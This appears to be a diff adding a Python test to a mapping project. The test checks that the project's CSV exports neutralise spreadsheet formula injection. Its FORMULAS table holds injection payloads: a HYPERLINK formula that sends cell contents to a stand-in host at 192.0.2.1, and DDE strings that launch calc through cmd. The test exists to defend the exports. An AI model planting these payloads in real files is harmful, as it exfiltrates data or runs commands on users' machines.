@@ -449,3 +449,86 @@ def test_an_output_never_replaces_an_input_or_another_output(
 def test_the_data_pipeline_refuses_to_write_over_the_facts_file(tmp_path: Path) -> None:
     done = run("build-data", "--out", str(ROOT / "data" / "facts.yaml"))
     assert done.returncode == 2 and "is the facts file the atlas reads" in done.stderr, done.stderr
+
+
+# ------------------------------------------------------------------ CSV cells are data (issue 27)
+FORMULAS = {
+    "link": '=HYPERLINK("http://192.0.2.1/?d="&A1&B1,"Estonia")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "return": "\r=1+1",
+}
+
+
+def _read_as_a_spreadsheet(data: bytes) -> list[list[str]]:
+    """The cells a spreadsheet's default CSV import reads (comma-separated, double-quoted, UTF-8)."""
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def _formula(cell: str) -> bool:
+    """Whether a spreadsheet would evaluate the cell: it starts a formula and is not a plain number."""
+    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+        return False
+    try:
+        float(cell)
+    except ValueError:
+        return True
+    return False  # '-5' or '+2.5' is a number, read as one
+
+
+def test_no_csv_cell_the_atlas_writes_starts_a_formula(gpkg, tmp_path: Path) -> None:
+    """Every table of the report pack and the app's downloads (geo.tables.csv_bytes), built from facts whose names,
+    titles, notes and sources begin with formulas: each such cell is read back as text with a leading apostrophe,
+    the rest of it intact; numbers stay numbers.
+    """
+    import datetime as dt
+
+    from geo.changes import changes
+    from geo.facts import load_facts
+    from geo.settings import SEEDS_DIR
+    from geo.tables import border_table, changes_table, csv_bytes, parts_table, plans_table, status_table
+    from geo.view import map_view
+
+    data = yaml.safe_load(TEXT)
+    est = next(c for c in data["countries"] if c["iso3"] == "EST")
+    est["name"] = FORMULAS["link"]
+    data["plans"][0]["title"] = FORMULAS["plus"]
+    data["plans"][0]["note"] = FORMULAS["minus"]
+    data["borders"]["EST-RUS"][0]["covers"] = FORMULAS["tab"]
+    for source in data["sources"].values():
+        source["publisher"] = FORMULAS["at"]
+    data["plans"][1]["title"] = FORMULAS["return"]
+    path = tmp_path / "facts.yaml"
+    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    facts = load_facts(path, seeds_dir=SEEDS_DIR)
+    day = dt.date.fromisoformat(DATE)
+    view = map_view(gpkg, facts, day)
+    tables = {
+        "status": status_table(view.statuses, view.facts, day),
+        "plans": plans_table(view.plans),
+        "parts": parts_table(view.part_stages),
+        "borders": border_table(view.lengths.values()),
+        "changes": changes_table(changes(facts, dt.date(2025, 1, 1), day)),
+    }
+    seen = set()
+    for name, table in tables.items():
+        cells = [cell for row in _read_as_a_spreadsheet(csv_bytes(table)) for cell in row]
+        assert not [c for c in cells if _formula(c)], name
+        seen |= {
+            key
+            for key, attack in FORMULAS.items()
+            if any(c.startswith("'" + attack) or ("'" + attack) in c for c in cells)
+        }
+    assert seen == set(FORMULAS) - {"tab", "return"}, seen  # every attack reached a table, as text
+    # the facts loader strips a leading tab or carriage return from a text; a table's cell may still hold one
+    import pandas as pd
+
+    rows = _read_as_a_spreadsheet(csv_bytes(pd.DataFrame({"t": [FORMULAS["tab"], FORMULAS["return"]], "n": [-5, 2]})))
+    assert rows == [["t", "n"], ["'" + FORMULAS["tab"], "-5"], ["'" + FORMULAS["return"], "2"]]
+    numbers = _read_as_a_spreadsheet(csv_bytes(tables["borders"]))
+    assert all(float(v) for v in (row[numbers[0].index("computed_km")] for row in numbers[1:]))  # still numbers
